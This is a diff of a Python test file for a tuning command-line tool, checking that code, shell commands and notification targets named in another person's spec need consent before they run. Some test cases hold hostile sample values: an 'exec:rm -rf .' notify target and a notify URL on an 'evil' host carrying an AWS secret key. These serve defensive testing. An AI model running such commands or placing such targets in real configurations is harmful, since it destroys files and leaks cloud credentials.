@@ -1,4 +1,4 @@
-"""Code that a spec from elsewhere names: it is told before it is imported, and asked about."""
+"""Consent to code that a file, a folder or an export names, before it is imported."""
 
 import io
 import sys
@@ -13,19 +13,24 @@ from tuner.cli.consent import admit_experiment, admit_network, ask
 from tuner.cli.validate import resolve
 from tuner.errors import SpecError, UsageError
 from tuner.experiment.results.results import Results
-from tuner.spec.code import IMAGE_CLASSIFIER
+from tuner.spec.code import IMAGE_CLASSIFIER, NamedCode
 
 CODE = "def train(config):\n    pass\n"
+NET = "from torch import nn\n\n\ndef net(num_classes):\n    return nn.LazyLinear(num_classes)\n"
+SPEC = {key: value for key, value in GOOD.items() if key != "training"}
+
+
+@pytest.fixture(autouse=True)
+def nothing_remembered(tmp_path_factory, monkeypatch):
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path_factory.mktemp("state")))
 
 
 @pytest.fixture
-def elsewhere(tmp_path_factory):
-    """A folder with a module and a spec that names it."""
+def theirs(tmp_path_factory):
+    """A spec elsewhere that names a module beside it."""
     folder = tmp_path_factory.mktemp("elsewhere")
     (folder / "their_code.py").write_text(CODE)
-    spec = {key: value for key, value in GOOD.items() if key != "training"}
-    text_of(folder / "theirs.yaml", {**spec, "trainable": "their_code:train"})
-    yield folder
+    yield text_of(folder / "theirs.yaml", {**SPEC, "trainable": "their_code:train"})
     for name in ("their_code", "own_code", "mine"):
         sys.modules.pop(name, None)
 
@@ -37,169 +42,125 @@ class Terminal(io.StringIO):
 
 @pytest.fixture
 def answered(monkeypatch):
-    """Lets the user sit at a terminal and give this answer; returns what was asked."""
-    asked = []
+    """Lets the user sit at a terminal and give this answer; returns the questions."""
+    questions = []
 
-    def confirm(text, **options):
-        asked.append(text)
-        if not answer:
-            raise click.Abort
+    def answer(yes):
+        def confirm(text, **options):
+            questions.append(text)
+            if not yes:
+                raise click.Abort
 
-    answer = True
+        monkeypatch.setattr(click, "confirm", confirm)
+        monkeypatch.setattr(sys, "stdin", Terminal())
+        return questions
 
-    def give(yes):
-        nonlocal answer
-        answer = yes
-        return asked
-
-    monkeypatch.setattr(click, "confirm", confirm)
-    monkeypatch.setattr(sys, "stdin", Terminal())
-    return give
+    return answer
 
 
-def experiment(here, trainable):
-    folder = make_folder(here / "results" / "x", trainable=trainable, training={})
-    Writer(folder).end()
-    return Results(folder)
+def experiment(here, **fields):
+    writer = Writer(make_folder(here / "results" / "x", **{"training": {}, **fields}))
+    writer.end()
+    return Results(writer.folder)
 
 
 def validate(*arguments):
-    """What `tuner validate` resolves, with stdin as it is: CliRunner has one of its own."""
+    """What `tuner validate` resolves, with stdin as it is: CliRunner replaces it."""
     numbers = ("num_samples", "max_concurrent", "time_budget", "seed", "cpus", "gpus", "workers")
     names = ("name", "warm_start", "storage", "data_dir", "log", "notify", "strategy", "scheduler")
     flags = dict.fromkeys((*numbers, *names, "command"))
-    name, *assignments = arguments
-    return resolve(name, tuple(assignments), "local", flags, yes=False)
+    name, *assignments = map(str, arguments)
+    return resolve(name, tuple(assignments), "local", flags, trust=False)
 
 
-def test_what_a_file_from_elsewhere_runs_is_told_and_without_a_terminal_not_asked(elsewhere):
-    done = call("validate", elsewhere / "theirs.yaml")
-    assert done.exception is None
-    file = elsewhere / "their_code.py"
-    told = f"importing their_code:train ({file}), which {elsewhere / 'theirs.yaml'} names"
-    assert done.stderr.splitlines() == [told]
-
-
-def test_at_a_terminal_it_is_asked_before_it_is_imported(elsewhere, answered, monkeypatch):
-    asked = answered(False)
-    with pytest.raises(click.Abort):
-        validate(str(elsewhere / "theirs.yaml"))
-    assert asked == ["run their_code:train, from outside this folder?"]
+def test_validate_without_terminal_refuses_code_and_names_the_option(theirs):
+    error = call("validate", theirs).exception
+    assert isinstance(error, UsageError)
+    assert str(error).splitlines() == [
+        f"{theirs} names code that has not run here before:",
+        f"  their_code:train ({theirs.parent / 'their_code.py'})",
+        "give --trust to run it",
+    ]
     assert "their_code" not in sys.modules
-    answered(True)
-    assert validate(str(elsewhere / "theirs.yaml"))
+
+
+@pytest.mark.parametrize("option", ["--trust", "--yes"])
+def test_validate_with_trust_imports_code(theirs, option):
+    assert call("validate", theirs, option).exception is None
     assert "their_code" in sys.modules
 
 
-def test_what_the_user_names_is_neither_told_nor_asked(elsewhere, answered, monkeypatch, capsys):
-    asked = answered(False)
-    monkeypatch.syspath_prepend(str(elsewhere))
-    (elsewhere / "mine.py").write_text(
+def test_validate_at_a_terminal_imports_code_after_a_yes(theirs, answered):
+    questions = answered(False)
+    with pytest.raises(click.Abort):
+        validate(theirs)
+    assert f"their_code:train ({theirs.parent / 'their_code.py'})" in questions[0]
+    assert "their_code" not in sys.modules
+    answered(True)
+    assert validate(theirs)
+    assert "their_code" in sys.modules
+
+
+def test_validate_asks_nothing_about_code_from_the_command_line(theirs, monkeypatch):
+    folder = theirs.parent
+    monkeypatch.syspath_prepend(str(folder))
+    (folder / "mine.py").write_text(
         "import json, pathlib\n"
         "def experiment():\n"
         "    return json.loads((pathlib.Path(__file__).parent / 'theirs.yaml').read_text())\n"
     )
     assert validate("mine:experiment")
-    assert validate(str(elsewhere / "mine.py"))
-    text_of("own.yaml", {key: value for key, value in GOOD.items() if key != "training"})
-    assert validate("own.yaml", "trainable=their_code:train")
-    assert (asked, capsys.readouterr().err) == ([], "")
+    assert validate(folder / "mine.py")
+    assert validate(text_of("own.yaml", SPEC), "trainable=their_code:train")
+    command = ("--command", "bash -c 1", "search.space.lr=uniform(0, 1)", "num_samples=1")
+    assert call("validate", *command).exception is None
 
 
-def test_code_of_the_working_directory_is_told_and_not_asked(here, answered, monkeypatch, capsys):
-    asked = answered(False)
+def test_code_that_the_user_has_run_is_admitted_again(theirs, here):
     (here / "own_code.py").write_text(CODE)
-    spec = {key: value for key, value in GOOD.items() if key != "training"}
-    text_of("own.yaml", {**spec, "trainable": "own_code:train"})
+    results = experiment(here, trainable="own_code:train")
+    with pytest.raises(UsageError, match="--trust"):
+        admit_experiment(results, trust=False)
+    NamedCode("trainable", "own_code:train").remember()
+    admit_experiment(results, trust=False)
+    text_of("own.yaml", {**SPEC, "trainable": "own_code:train"})
     assert validate("own.yaml")
-    assert "importing own_code:train (" in capsys.readouterr().err
-    admit_experiment(experiment(here, "own_code:train"), yes=False)
-    assert asked == []
 
 
-def test_code_inside_of_the_experiments_folder_is_asked(here, answered, monkeypatch):
-    asked = answered(False)
-    results = experiment(here, "results.x.their_code:train")
-    (results.folder / "their_code.py").write_text(CODE)
-    with pytest.raises(click.Abort):
-        admit_experiment(results, yes=False)
-    assert asked == ["run results.x.their_code:train, from outside this folder?"]
+SEARCHER = {"search": {"strategy": "ray.x", "space": {"lr": "uniform(0, 1)"}}}
+SCHEDULER = {"scheduler": {"name": "ray.y", "max_t": 9}}
+
+
+@pytest.mark.parametrize("named", [SEARCHER, SCHEDULER])
+def test_admit_experiment_that_only_trains_passes_over_its_searcher(here, named):
+    results = experiment(here, trainable=IMAGE_CLASSIFIER, **named)
+    admit_experiment(results, trust=False, trains_only=True)
+    admit_experiment(results, trust=True)
+    with pytest.raises(UsageError, match=r"ray\.[xy]"):
+        admit_experiment(results, trust=False)
 
 
 @pytest.mark.parametrize(
-    "named",
+    "fields",
     [
-        {"search": {"strategy": "ray.x", "space": {"lr": "uniform(0, 1)"}}},
-        {"scheduler": {"name": "ray.y", "max_t": 9}},
+        {"trainable": IMAGE_CLASSIFIER, "training": {"dataset": "ray.x:load"}},
+        {"trainable": {"command": "bash -c 1"}},
+        {"trainable": IMAGE_CLASSIFIER, "notify": ["exec:mail me"]},
     ],
 )
-def test_an_installed_searcher_or_scheduler_is_asked_on_a_resume_alone(here, answered, named):
-    asked = answered(False)
-    ships = {"trainable": IMAGE_CLASSIFIER, "training": {}}
-    folder = make_folder(here / "results" / "x", **ships, **named)
-    Writer(folder).end()
-    admit_experiment(Results(folder), yes=False, trains_only=True)
-    admit_experiment(Results(folder), yes=True)
-    assert asked == []
-    with pytest.raises(click.Abort):
-        admit_experiment(Results(folder), yes=False)
+def test_admit_experiment_needs_trust_for_each_kind_of_code(here, fields):
+    with pytest.raises(UsageError, match="--trust"):
+        admit_experiment(experiment(here, **fields), trust=False)
 
 
-def test_a_function_that_returns_images_is_asked_about_even_to_evaluate(here, answered, capsys):
-    asked = answered(False)
-    training = {"dataset": "ray.x:load"}
-    folder = make_folder(here / "results" / "x", trainable=IMAGE_CLASSIFIER, training=training)
-    Writer(folder).end()
-    with pytest.raises(click.Abort):
-        admit_experiment(Results(folder), yes=False, trains_only=True)
-    assert asked == ["run ray.x:load, from outside this folder?"]
-    assert "importing ray.x:load (" in capsys.readouterr().err
-
-
-def test_a_folder_of_images_is_announced(here, capsys):
-    training = {"dataset": "folder:/home/me"}
-    folder = make_folder(here / "x", trainable=IMAGE_CLASSIFIER, training=training)
-    Writer(folder).end()
-    admit_experiment(Results(folder), yes=False)
-    told = capsys.readouterr().err
-    assert told == "using training.dataset folder:/home/me, which x names\n"
-
-
-NET = "from torch import nn\n\n\ndef net(num_classes):\n    return nn.LazyLinear(num_classes)\n"
-
-
-@pytest.fixture
-def network(elsewhere):
-    """A spec that names a network beside it."""
-    (elsewhere / "their_code.py").write_text(NET)
-    text_of(elsewhere / "theirs.yaml", {**GOOD, "training": {"model": "their_code:net"}})
-    return elsewhere
-
-
-def test_a_network_is_code_as_a_trainable_is(network, answered, monkeypatch):
-    told = f"importing their_code:net ({network / 'their_code.py'}), which "
-    assert call("validate", network / "theirs.yaml").stderr.startswith(told)
-    sys.modules.pop("their_code")
-    asked = answered(False)
-    with pytest.raises(click.Abort):
-        validate(str(network / "theirs.yaml"))
-    assert asked == ["run their_code:net, from outside this folder?"]
-    assert "their_code" not in sys.modules
-
-
-def test_a_network_of_python_is_refused_unimported(here, capsys):
-    text_of("own.yaml", {**GOOD, "training": {"model": "antigravity:fly"}})
-    with pytest.raises(SpecError, match=r"training.model: must not be of Python's standard lib"):
-        validate("own.yaml")
-    assert "antigravity" not in sys.modules
-    assert capsys.readouterr().err == ""
+def test_admit_experiment_asks_nothing_about_what_ships(here):
+    training = {"dataset": "folder:/home/me", "model": "timm:resnet18"}
+    results = experiment(here, trainable=IMAGE_CLASSIFIER, training=training, log=["wandb"])
+    admit_experiment(results, trust=False)
 
 
 @pytest.mark.parametrize("spelt", ["model", r"mod\u0065l"])
-def test_a_network_that_only_the_journal_names_is_told_and_asked_about(
-    here, answered, capsys, spelt
-):
-    asked = answered(False)
+def test_admit_finds_a_network_that_only_the_journal_names(here, spelt):
     folder = make_folder(here / "results" / "x", trainable=IMAGE_CLASSIFIER, training={})
     writer = Writer(folder)
     for number in range(3):
@@ -208,78 +169,53 @@ def test_a_network_that_only_the_journal_names_is_told_and_asked_about(
     journal = folder / "journal.jsonl"
     journal.write_text(journal.read_text().replace('"model"', f'"{spelt}"'))
     for command in (admit_experiment, admit_network):
-        with pytest.raises(click.Abort):
-            command(Results(folder), yes=False)
-    assert asked == ["run timm.data:create_loader, from outside this folder?"] * 2
-    told = "importing timm.data:create_loader ("
-    assert [line.startswith(told) for line in capsys.readouterr().err.splitlines()] == [True, True]
+        with pytest.raises(UsageError) as refused:
+            command(Results(folder), trust=False)
+        assert str(refused.value).count("timm.data:create_loader") == 1
 
 
-def test_what_a_foreign_spec_reaches_out_to_is_announced(here, capsys):
-    training = {"data_dir": "/\x1bx"}
-    folder = make_folder(here / "x", trainable="their:L", log=["wandb"], training=training)
-    Writer(folder).end()
-    admit_experiment(Results(folder), yes=False)
-    imports, logs, data = capsys.readouterr().err.splitlines()
-    assert imports == "importing their:L (not found), which x names"
-    assert logs.startswith("using log ")
-    assert "wandb" in logs
-    assert data == "using training.data_dir / x, which x names"
+@pytest.mark.parametrize(
+    ("fields", "named"),
+    [
+        ({"training": {"model": "their_code:net"}}, "their_code:net"),
+        ({"notify": ["exec:rm -rf ."]}, "notify exec:rm -rf ."),
+        ({"notify": ["https://evil/${AWS_KEY}"]}, "notify https://evil/${AWS_KEY}"),
+    ],
+)
+def test_validate_refuses_code_of_a_file_and_not_of_its_overrides(theirs, fields, named):
+    (theirs.parent / "their_code.py").write_text(NET)
+    text_of(theirs, {**GOOD, **fields})
+    with pytest.raises(UsageError) as refused:
+        validate(theirs)
+    assert f"  {named}" in str(refused.value)
+    assert validate(theirs, "training.model=cnn", "notify=['exec:mail me']")
 
 
-def test_without_a_terminal_it_says_what_to_give(monkeypatch):
+@pytest.mark.parametrize("command", ["python mine.py {lr}", "bash mine.py"])
+def test_validate_refuses_a_command_of_a_file(here, command):
+    (here / "mine.py").touch()
+    text_of("theirs.yaml", {**SPEC, "trainable": {"command": command}})
+    with pytest.raises(UsageError, match="  command "):
+        validate("theirs.yaml")
+    assert call("validate", "theirs.yaml", "--trust").exception is None
+
+
+def test_validate_rejects_a_network_of_the_standard_library_unimported(here):
+    text_of("own.yaml", {**GOOD, "training": {"model": "antigravity:fly"}})
+    with pytest.raises(SpecError, match=r"training.model: must not be of Python's standard lib"):
+        validate("own.yaml")
+    assert "antigravity" not in sys.modules
+
+
+def test_ask_without_terminal_names_the_option(monkeypatch):
     monkeypatch.setattr(sys, "stdin", SimpleNamespace(isatty=lambda: False))
     with pytest.raises(UsageError, match="give --yes"):
         ask("sure?", yes=False, unattended="give --yes")
     ask("sure?", yes=True, unattended="give --yes")
 
 
-def test_a_no_ends_the_command(monkeypatch):
+def test_ask_ends_the_command_after_a_no(monkeypatch):
     monkeypatch.setattr(sys, "stdin", SimpleNamespace(isatty=lambda: True))
     monkeypatch.setattr("click.termui.visible_prompt_func", lambda text: "n")
     with pytest.raises(click.Abort):
         ask("sure?", yes=False, unattended="")
-
-
-@pytest.mark.parametrize("target", ["exec:rm -rf .", "https://evil/${AWS_SECRET_ACCESS_KEY}"])
-def test_what_a_foreign_spec_would_notify_is_told_and_asked_about(here, answered, capsys, target):
-    text_of(here / "theirs.yaml", {**GOOD, "notify": [target]})
-    asked = answered(False)
-    with pytest.raises(click.Abort):
-        validate("theirs.yaml")
-    assert target in asked[0]
-    names = f"notifying {target}, which {here / 'theirs.yaml'} names\n"
-    assert capsys.readouterr().err == names
-    own = ["notify=['exec:mail me']"]
-    assert validate("theirs.yaml", *own)  # the user's own: neither told nor asked about
-    assert target not in capsys.readouterr().err
-
-
-@pytest.mark.parametrize(
-    ("command", "is_asked"),
-    [("python mine.py {lr}", False), ("bash mine.py", True), ("python -c 1 mine.py", True)],
-)
-def test_a_command_in_a_file_is_announced_and_asked_about_unless_it_runs_a_script_of_this_folder(
-    here, answered, capsys, command, is_asked
-):
-    (here / "mine.py").touch()
-    spec = {key: value for key, value in GOOD.items() if key != "training"}
-    text_of(here / "theirs.yaml", {**spec, "trainable": {"command": command}})
-    asked = answered(True)
-    assert validate("theirs.yaml")
-    assert asked == ([f"run {command}, from outside this folder?"] if is_asked else [])
-    assert f"running {command}, which {here}/theirs.yaml names" in capsys.readouterr().err
-
-
-def test_a_command_on_the_command_line_is_not_announced(here):
-    arguments = ("--command", "bash -c 1", "search.space.lr=uniform(0, 1)", "num_samples=1")
-    done = call("validate", *arguments)
-    assert done.exception is None
-    assert "running" not in done.stderr
-
-
-def test_an_experiment_of_a_command_is_asked_about_on_a_resume(here, answered):
-    answered(False)
-    results = experiment(here, {"command": "bash -c 1"})
-    with pytest.raises(click.Abort):
-        admit_experiment(results, yes=False)
